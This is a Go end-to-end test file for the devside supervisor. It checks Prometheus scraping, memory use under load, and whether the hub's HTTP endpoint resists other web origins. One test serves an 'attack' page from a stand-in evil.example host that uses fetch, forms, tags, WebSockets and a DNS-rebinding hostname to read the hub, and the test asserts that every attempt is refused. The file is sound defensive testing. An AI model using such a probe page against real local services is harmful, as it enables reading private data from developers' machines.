//go:build e2e && linux

package main

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/devside/devside/supervisor/proc"
	"github.com/devside/devside/supervisor/status"
)

// The HTTP side against a real Prometheus and a real browser, from the
// distribution's packages prometheus and chromium.

// observed is a session of the demo's project whose hub listens for HTTP.
func observed(t *testing.T) (s *sidecarProcess, dir, base string) {
	t.Helper()
	dir, _ = demoProject(t)
	configured(t, dir, "http: 127.0.0.1:0\n")
	s = startSidecar(t, dir, homeDir(t), time.Minute)
	s.initialize(dir, trusted)
	s.mustStart(t)
	s.awaitStatus("HTTP", func(p status.Project) bool { return p.HTTP != "" })
	return s, dir, s.status(t).HTTP
}

// alerts are the expressions of METRICS.md's table.
func alerts(t *testing.T) []string {
	t.Helper()
	text, err := os.ReadFile("METRICS.md")
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, m := range regexp.MustCompile("(?m)^\\| `[a-z_]+` \\| (?:counter|gauge|histogram) \\|.* \\| `(.*)` \\|$").FindAllStringSubmatch(string(text), -1) {
		out = append(out, strings.ReplaceAll(m[1], `\|`, "|"))
	}
	if len(out) < 20 {
		t.Fatalf("METRICS.md has only %d alerts", len(out))
	}
	return out
}

func TestE2EPrometheusScrapesAHub(t *testing.T) {
	prometheus, promtool := program(t, "prometheus", "prometheus"), program(t, "promtool", "prometheus")
	s, _, base := observed(t)
	_, scrape := body(t, base+"/metrics")
	checks := func(stdin string, args ...string) {
		t.Helper()
		cmd := exec.Command(promtool, args...)
		cmd.Stdin = strings.NewReader(stdin)
		// It says what it finds wrong with a name on standard error, with exit code 3.
		if out, err := cmd.CombinedOutput(); err != nil || stdin != "" && len(out) > 0 {
			t.Errorf("promtool %v: %v\n%s", args, err, out)
		}
	}
	checks(scrape, "check", "metrics")
	checks("", "check", "config", "prometheus.yml")

	dir := serviceDir(t)
	rules := "groups:\n- name: devside\n  rules:\n"
	for i, expr := range alerts(t) {
		rules += fmt.Sprintf("  - alert: A%d\n    expr: %s\n", i, strconv.Quote(expr))
	}
	example, err := os.ReadFile("prometheus.yml")
	if err != nil {
		t.Fatal(err)
	}
	config := strings.NewReplacer("15s", "200ms", "127.0.0.1:9000", strings.TrimPrefix(base, "http://")).Replace(string(example))
	for name, text := range map[string]string{"prometheus.yml": config + "rule_files: [rules.yml]\n", "rules.yml": rules} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	checks("", "check", "config", filepath.Join(dir, "prometheus.yml"))

	port := servicePort(t)
	serve(t, dir, prometheus, "--config.file=prometheus.yml", "--storage.tsdb.path=data", fmt.Sprintf("--web.listen-address=127.0.0.1:%d", port))
	query := func(expr string) string {
		answer, err := http.Get(fmt.Sprintf("http://127.0.0.1:%d/api/v1/query?query=%s", port, url.QueryEscape(expr)))
		if err != nil {
			return err.Error()
		}
		defer answer.Body.Close()
		var r struct {
			Data struct {
				Result []struct {
					Value [2]any `json:"value"`
				} `json:"result"`
			} `json:"data"`
			Error string
		}
		if err := json.NewDecoder(answer.Body).Decode(&r); err != nil {
			return err.Error()
		}
		if len(r.Data.Result) != 1 {
			return fmt.Sprintf("%d results %s", len(r.Data.Result), r.Error)
		}
		return fmt.Sprint(r.Data.Result[0].Value[1])
	}
	is := func(expr, want string) {
		t.Helper()
		await(t, fmt.Sprintf("%s to be %s", expr, want), func() (string, bool) {
			got := query(expr)
			return got, got == want
		})
	}
	is(`up{job="devside",project="shop"}`, "1")
	is(`count(devside_server_up{project="shop"} == 1)`, "2")
	is(`dev_manager_server_restarts_total{server="api"}`, "0")
	now := s.status(t)
	api, _ := now.Server("api")
	id, err := proc.Identify(api.PID)
	if err != nil {
		t.Fatal(err)
	}
	kill(t, id)
	is(`dev_manager_server_restarts_total{server="api"}`, "1")
	is(`sum(devside_server_crashes_total{server="api"})`, "1")
	is(`increase(dev_manager_server_restarts_total{server="api"}[1m]) > bool 0`, "1")
	is(`changes(devside_server_start_time_seconds{server="api"}[1m])`, "1")
	is(`devside_server_up{server="api"}`, "1")
	is(`dev_manager_startup_duration_seconds_count`, "3")
	is(`max_over_time(dev_manager_memory_usage_bytes{server="api"}[1m]) > bool 1e6`, "1")
	s.Shutdown()
}

// attack is a page that tries what pages can. It tells what each attempt came to.
const attack = `<!doctype html><meta charset=utf-8><title>an honest page</title><body><script>
const hub = %q, rebound = %q, found = [];
const soon = (what) => new Promise((_, no) => setTimeout(() => no(new Error(what + ' took too long')), 10000));
async function attempt(name, make) {
  try { found.push([name, String(await Promise.race([make(), soon(name)]))]); } catch (e) { found.push([name, 'refused: ' + e.message]); }
}
const element = (tag, attributes) => new Promise((yes, no) => {
  const e = document.createElement(tag);
  e.onload = () => yes('loaded');
  e.onerror = () => no(new Error('error'));
  Object.assign(e, attributes);
  document.body.append(e);
});
// A frame that shows an error page of the browser fires load, and its document can't be read; one of the hub's could not either.
const frame = (name) => { const f = document.createElement('iframe'); f.name = name; document.body.append(f); return f; };
const posted = (method, path) => new Promise((yes) => {
  const f = frame('f' + Math.random());
  const form = document.createElement('form');
  Object.assign(form, { method, action: hub + path, target: f.name });
  form.append(Object.assign(document.createElement('input'), { name: 'server', value: 'api' }));
  document.body.append(form);
  f.onload = () => { let text; try { text = f.contentDocument.body.innerText; } catch { text = undefined; } yes(text ? 'read: ' + text : 'refused: nothing can be read'); };
  form.submit();
});
(async () => {
  for (const path of ['/metrics', '/health/readiness', '/health/liveness?server=api', '/', '/dev-dashboard']) {
    await attempt('fetch ' + path, async () => 'read: ' + await (await fetch(hub + path)).text());
    await attempt('fetch with a token ' + path, async () => 'read: ' + await (await fetch(hub + path, { headers: { Authorization: 'Bearer guess' } })).text());
    await attempt('fetch without CORS ' + path, async () => { const r = await fetch(hub + path, { mode: 'no-cors' }); return r.type === 'opaque' ? 'refused: opaque' : 'read: ' + r.type; });
    await attempt('rebound ' + path, async () => 'read: ' + await (await fetch(rebound + path)).text());
  }
  await attempt('post', async () => 'read: ' + await (await fetch(hub + '/metrics', { method: 'POST', body: 'x' })).text());
  await attempt('post json', async () => 'read: ' + await (await fetch(hub + '/', { method: 'POST', body: '{}', headers: { 'Content-Type': 'application/json' } })).text());
  await attempt('delete', async () => 'read: ' + await (await fetch(hub + '/metrics', { method: 'DELETE' })).text());
  await attempt('image', () => element('img', { src: hub + '/metrics' }));
  await attempt('script', () => element('script', { src: hub + '/metrics' }));
  await attempt('style', () => element('link', { rel: 'stylesheet', href: hub + '/metrics' }));
  await attempt('event source', () => new Promise((yes, no) => { const e = new EventSource(hub + '/metrics'); e.onopen = () => yes('open'); e.onerror = () => { e.close(); no(new Error('error')); }; }));
  await attempt('web socket', () => new Promise((yes, no) => { const s = new WebSocket(hub.replace('http', 'ws') + '/metrics'); s.onopen = () => yes('open'); s.onerror = () => no(new Error('error')); }));
  await attempt('form get', () => posted('get', '/metrics'));
  await attempt('form post', () => posted('post', '/metrics'));
  await attempt('beacon', async () => navigator.sendBeacon(hub + '/metrics', 'x') ? 'refused: sent, and nothing can be read' : 'refused: not sent');
  await fetch('/report', { method: 'POST', body: JSON.stringify(found) });
})();
</script>`

// chromium runs the browser on a page. Names below .example are this machine's, as
// after a rebinding.
func chromium(t *testing.T, args ...string) *exec.Cmd {
	t.Helper()
	cmd := exec.Command(program(t, "chromium", "chromium"), append([]string{
		"--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
		"--user-data-dir=" + t.TempDir(), "--host-resolver-rules=MAP *.example 127.0.0.1",
	}, args...)...)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	return cmd
}

func TestE2EAPageOfAnotherOriginGetsNothing(t *testing.T) {
	s, _, base := observed(t)
	before := s.status(t)
	hub, err := url.Parse(base)
	if err != nil {
		t.Fatal(err)
	}
	rebound := "http://evil.example:" + hub.Port()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	reports := make(chan [][2]string, 1)
	evil := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/report":
			var found [][2]string
			if err := json.NewDecoder(r.Body).Decode(&found); err != nil {
				t.Error(err)
			}
			select {
			case reports <- found:
			default: // told already
			}
		case "/":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprintf(w, attack, base, rebound)
		default:
			http.NotFound(w, r)
		}
	})}
	served := make(chan struct{})
	go func() {
		defer close(served)
		if err := evil.Serve(l); !errors.Is(err, http.ErrServerClosed) {
			t.Error(err)
		}
	}()
	defer func() { evil.Close(); <-served }()

	// From another site, and from another port of this machine.
	_, port, _ := net.SplitHostPort(l.Addr().String())
	for _, origin := range []string{"http://pages.example:" + port, "http://localhost:" + port} {
		browser := chromium(t, "--remote-debugging-port=0", origin)
		ended := runBrowser(t, browser)
		var found [][2]string
		select {
		case found = <-reports:
		case <-time.After(time.Minute):
			t.Error("the page has not told what it found")
		}
		ended()
		if t.Failed() {
			return
		}
		if len(found) != 31 {
			t.Errorf("from %s: %d attempts were made, want 31", origin, len(found))
		}
		for _, f := range found {
			if !strings.HasPrefix(f[1], "refused: ") {
				t.Errorf("from %s: %s got %q", origin, f[0], f[1])
			}
		}
	}
	// A page that was served by the attacker's name, which now is the hub's address:
	// for the browser the hub's answers are of the same origin. And for comparison.
	for page, want := range map[string]string{rebound + "/metrics": "it does not answer to that Host", base + "/metrics": "devside_build_info"} {
		out, err := chromium(t, "--virtual-time-budget=5000", "--dump-dom", page).Output()
		if err != nil || !strings.Contains(string(out), want) || strings.Contains(string(out), "devside_build_info") != (want == "devside_build_info") {
			t.Errorf("%s shows %.300q, %v; want %q", page, out, err, want)
		}
	}
	_, scrape := body(t, base+"/metrics")
	for series, least := range map[string]int{`devside_http_refused_total{reason="origin"}`: 50, `devside_http_refused_total{reason="host"}`: 11} {
		if n, err := strconv.Atoi(sample(scrape, series)); err != nil || n < least {
			t.Errorf("%s is %q, want at least %d", series, sample(scrape, series), least)
		}
	}
	after := s.status(t)
	for i, was := range before.Servers {
		if is := after.Servers[i]; is.PID != was.PID || is.State != was.State || is.Run != was.Run {
			t.Errorf("%s was %s (pid %d), and is %s (pid %d)", was.Name, was.State, was.PID, is.State, is.PID)
		}
	}
	s.Shutdown()
}

// runBrowser starts the browser, and returns what ends it: its process group, which
// is its own.
func runBrowser(t *testing.T, cmd *exec.Cmd) (end func()) {
	t.Helper()
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	return func() {
		syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) //nolint:errcheck // it may have ended by itself
		cmd.Wait()                                      //nolint:errcheck // killed
	}
}

// TestE2ETenThousandScrapesChangeNothing: memory and descriptors of the hub are as
// they were, also with a client that opened a connection and says nothing.
func TestE2ETenThousandScrapesChangeNothing(t *testing.T) {
	s, _, base := observed(t)
	hub := s.status(t).HubPID
	silent, err := net.Dial("tcp", strings.TrimPrefix(base, "http://"))
	if err != nil {
		t.Fatal(err)
	}
	defer silent.Close()
	client := &http.Client{Transport: &http.Transport{MaxIdleConnsPerHost: 4, DisableCompression: true}}
	scrape := func(n int) {
		t.Helper()
		var scrapers sync.WaitGroup
		for range 4 {
			scrapers.Go(func() {
				for range n / 4 {
					answer, err := client.Get(base + "/metrics")
					if err != nil {
						t.Error(err)
						return
					}
					read, err := io.Copy(io.Discard, answer.Body)
					answer.Body.Close()
					if answer.StatusCode != http.StatusOK || err != nil || read == 0 {
						t.Errorf("%s, %d bytes, %v", answer.Status, read, err)
					}
				}
			})
		}
		scrapers.Wait()
		client.CloseIdleConnections()
	}
	private := func() int { return kilobytes(t, fmt.Sprintf("/proc/%d/smaps_rollup", hub), "Pss_Anon:") }
	descriptors := func() int {
		all, err := os.ReadDir(fmt.Sprintf("/proc/%d/fd", hub))
		if err != nil {
			t.Fatal(err)
		}
		return len(all)
	}
	scrape(1000) // until what it needs for a scrape is there
	await(t, "the silent connection's end", func() (string, bool) {
		silent.SetReadDeadline(time.Now().Add(time.Millisecond)) //nolint:errcheck // Read says it
		_, err := silent.Read(make([]byte, 1))
		return fmt.Sprint(err), err != nil && !errors.Is(err, os.ErrDeadlineExceeded)
	})
	var fds int
	await(t, "the ends of the scrapers' connections", func() (string, bool) {
		again := descriptors()
		same := again == fds
		fds = again
		return strconv.Itoa(again), same
	})
	memory := private()
	var scraping sync.WaitGroup
	scraping.Go(func() { scrape(10_000) })
	for range 3 { // the supervisor is as free as ever
		s.Do("devside/restart", map[string]any{}, nil)
		if p := s.status(t); !allReady(p) {
			t.Errorf("%+v", p.Summary)
		}
	}
	scraping.Wait()
	await(t, fmt.Sprintf("%d descriptors, as before", fds), func() (string, bool) {
		now := descriptors()
		return strconv.Itoa(now), now <= fds
	})
	t.Logf("the hub's own memory: %d kB, then %d kB; %d descriptors", memory, private(), fds)
	// The collector keeps its heap within a factor of two of what is in use, some MB.
	if now := private(); now > memory+8<<10 {
		t.Errorf("the hub's own memory was %d kB and is %d kB", memory, now)
	}
	if p := s.status(t); !allReady(p) {
		t.Errorf("%+v", p.Summary)
	}
	s.Shutdown()
}

// kilobytes reads a line of a file like /proc/PID/status.
func kilobytes(t *testing.T, file, name string) int {
	t.Helper()
	text, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	for line := range strings.Lines(string(text)) {
		if f := strings.Fields(line); len(f) > 1 && f[0] == name {
			n, err := strconv.Atoi(f[1])
			if err != nil {
				t.Fatal(err)
			}
			return n
		}
	}
	t.Fatalf("%s has no %s", file, name)
	return 0
}
